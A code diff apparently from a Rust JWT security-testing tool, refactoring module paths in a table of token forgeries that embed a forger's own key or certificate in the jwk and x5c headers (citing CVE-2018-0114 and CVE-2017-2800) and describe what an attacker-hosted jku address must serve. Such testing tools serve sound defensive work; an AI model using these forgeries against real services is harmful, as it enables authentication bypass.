@@ -3,7 +3,7 @@
 use base64::{Engine as _, engine::general_purpose::STANDARD};
 use serde_json::{Value, json};
 
-use super::{
+use crate::attack::{
     Family, Forged, Forgery, certificate,
     draft::{Draft, set},
 };
@@ -16,12 +16,12 @@ const INSIDE: &str = "The server fetches what the token names, even inside its o
 const SOURCE: &str = "RFC 8725 §3.10; jwt_tool, JWT Editor, PortSwigger, jwt-hack";
 
 #[rustfmt::skip] // a table: one line a forgery
-pub(super) fn forgeries() -> Vec<Forgery> {
+pub(in crate::attack) fn forgeries() -> Vec<Forgery> {
     const F: Family = Family::Pointers;
     vec![
         Forgery::token(F, "jwk-own", "Own key in `jwk`", "The header brings a key of the forger's in `jwk`; signed with it.", "CVE-2018-0114; jwt_tool, JWT Editor, PortSwigger, jwt-hack", OWN, |d| by_jwk(d, false)),
         Forgery::token(F, "jwk-own-kid", "Own key in `jwk`, with its kid", "As own key in `jwk`; `kid` names the key that is brought along.", "CVE-2018-0114; JWT Editor, PortSwigger", OWN, |d| by_jwk(d, true)),
-        Forgery::token(F, "jwk-private", "Private key in `jwk`", "The header brings a whole private key in `jwk`; signed with it.", "RFC 7515 §4.1.3; own", OWN, |d| own(d, "/jwk", Value::Object(super::ingredients::unbound(&d.with.own).0))),
+        Forgery::token(F, "jwk-private", "Private key in `jwk`", "The header brings a whole private key in `jwk`; signed with it.", "RFC 7515 §4.1.3; own", OWN, |d| own(d, "/jwk", Value::Object(crate::attack::ingredients::unbound(&d.with.own).0))),
         Forgery::token(F, "jwk-symmetric", "Symmetric key in `jwk`", "The header brings a shared secret in `jwk`; `alg` is HS256, and the HMAC is made with it.", "RFC 7515 §4.1.3; own", OWN, |d| { let h = d.header_set("/alg", Some("HS256".into()))?; d.hmac_with(&set(&h, "/jwk", Some(json!({"kty":"oct","k":b64::encode("forged")})))?, b"forged") }),
         Forgery::token(F, "x5c-own", "Own certificate in `x5c`", "The header brings a self-signed certificate of the forger's; signed with its key.", "RFC 7515 §4.1.6; CVE-2017-2800; jwt_tool, jwt-hack", OWN, |d| { let der = certificate::self_signed(&d.with.own, &d.with.own_alg)?; own(d, "/x5c", json!([STANDARD.encode(der)])) }),
         Forgery::token(F, "x5c-own-chain", "Own chain in `x5c`", "The header brings a certificate and the authority of the forger's that signed it; signed with the certificate's key.", "RFC 7515 §4.1.6, RFC 5280 §6.1; jwt_tool, jwt-hack", OWN, |d| { let chain = certificate::chain(&d.with.own, &d.with.own_alg)?; own(d, "/x5c", chain.map(|der| Value::from(STANDARD.encode(der))).into_iter().collect()) }),
@@ -39,7 +39,7 @@ pub(super) fn forgeries() -> Vec<Forgery> {
 
 /// What has to stand at the address that a forgery points to, for a server that fetches it: what it is,
 /// and its text.
-pub fn hosted(name: &str, with: &super::Ingredients) -> Option<(&'static str, String)> {
+pub fn hosted(name: &str, with: &crate::attack::Ingredients) -> Option<(&'static str, String)> {
     match name {
         "jku-own" | "jku-userinfo" => {
             let key = Value::Object(with.own.public()?.0);
